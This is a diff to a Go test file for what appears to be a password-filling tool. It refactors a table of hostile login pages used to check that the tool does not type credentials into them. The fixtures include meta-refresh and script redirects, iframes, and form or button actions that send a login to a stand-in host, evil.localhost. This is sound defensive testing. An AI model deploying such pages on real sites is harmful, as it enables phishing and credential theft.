@@ -88,29 +88,30 @@ func TestLookAlikes(t *testing.T) {
 // form there.
 func TestHostilePages(t *testing.T) {
 	t.Parallel()
-	for name, c := range map[string]struct {
+	for _, c := range pipetest.Some([]struct {
+		name string
 		page any // of shop/login
 		why  string
 	}{
-		"a redirect": {func(w http.ResponseWriter, r *http.Request) {
+		{"a redirect", func(w http.ResponseWriter, r *http.Request) {
 			http.Redirect(w, r, "http://evil.localhost:"+r.Host[strings.LastIndex(r.Host, ":")+1:]+"/login", http.StatusFound)
 		}, "is at http://evil.localhost:"},
-		"an open redirect":       {`<meta http-equiv=refresh content="0; url=http://evil.localhost:PORT/login">`, "is at http://evil.localhost:"},
-		"a script that goes on":  {form + `<script>onload = () => location = 'http://evil.localhost:PORT/login'</script>`, "is at http://evil.localhost:"},
-		"a frame":                {`<h1>Log in</h1><iframe src="http://evil.localhost:PORT/login"></iframe>`, "there is no form"},
-		"a frame without origin": {`<iframe sandbox="allow-scripts allow-forms" src="/plain"></iframe>`, "there is no form"},
-		"a page that frames us":  {`<meta http-equiv=refresh content="0; url=http://evil.localhost:PORT/frames">`, "is at http://evil.localhost:"},
-		"a form that sends on": {strings.Replace(form, "/login", "http://evil.localhost:PORT/login", 1),
+		{"an open redirect", `<meta http-equiv=refresh content="0; url=http://evil.localhost:PORT/login">`, "is at http://evil.localhost:"},
+		{"a script that goes on", form + `<script>onload = () => location = 'http://evil.localhost:PORT/login'</script>`, "is at http://evil.localhost:"},
+		{"a frame", `<h1>Log in</h1><iframe src="http://evil.localhost:PORT/login"></iframe>`, "there is no form"},
+		{"a frame without origin", `<iframe sandbox="allow-scripts allow-forms" src="/plain"></iframe>`, "there is no form"},
+		{"a page that frames us", `<meta http-equiv=refresh content="0; url=http://evil.localhost:PORT/frames">`, "is at http://evil.localhost:"},
+		{"a form that sends on", strings.Replace(form, "/login", "http://evil.localhost:PORT/login", 1),
 			"sends to http://evil.localhost:"},
-		"a button that sends on": {strings.Replace(form, "<button>", "<button formaction=http://evil.localhost:PORT/login>", 1),
+		{"a button that sends on", strings.Replace(form, "<button>", "<button formaction=http://evil.localhost:PORT/login>", 1),
 			"sends to http://evil.localhost:"},
-		"a field named action": {strings.Replace(form, "<form method=post action=/login>", "<form method=post action=http://evil.localhost:PORT/login><input type=hidden name=action value=/login>", 1),
+		{"a field named action", strings.Replace(form, "<form method=post action=/login>", "<form method=post action=http://evil.localhost:PORT/login><input type=hidden name=action value=/login>", 1),
 			"sends to http://evil.localhost:"},
-		"a form by another scheme": {strings.Replace(form, "/login", "ftp://shop.localhost:PORT/login", 1), "sends to ftp://"},
-		"a form for a new password": {`<form method=post><input name=email><input type=password name=a><input type=password name=b><button>Save</button></form>`,
+		{"a form by another scheme", strings.Replace(form, "/login", "ftp://shop.localhost:PORT/login", 1), "sends to ftp://"},
+		{"a form for a new password", `<form method=post><input name=email><input type=password name=a><input type=password name=b><button>Save</button></form>`,
 			"there is no form"},
-	} {
-		t.Run(strings.ReplaceAll(name, " ", "-"), func(t *testing.T) {
+	}, 4) {
+		t.Run(strings.ReplaceAll(c.name, " ", "-"), func(t *testing.T) {
 			t.Parallel()
 			h := serve(t, map[string]any{"shop/login": c.page, "shop/plain": thief + form, "evil/login": thief + form, "evil/got": "",
 				"evil/frames": thief + form + `<iframe src="http://shop.localhost:PORT/plain"></iframe>`})
@@ -126,6 +127,7 @@ func TestHostilePages(t *testing.T) {
 // TestTurningPages: a page and a frame change between the log-in's origin and another one all
 // the time. They get a value only at the log-in's origin.
 func TestTurningPages(t *testing.T) {
+	pipetest.InCI(t, "it is long, and TestHostilePages is quick")
 	t.Parallel()
 	var turns atomic.Int64
 	var h *hosts
@@ -159,6 +161,7 @@ func TestTurningPages(t *testing.T) {
 // TestSteps: steps are for forms that pwpipe does not recognise. They type into the fields that
 // they name, and only at the log-in's origins.
 func TestSteps(t *testing.T) {
+	pipetest.InCI(t, "it is long, and TestLogin is quick")
 	t.Parallel()
 	const odd = `<button id=open onclick="box.hidden = false; this.hidden = true">Members</button>
 		<div id=box hidden><input id=a maxlength=40><input id=b type=password><input id=c type=password>
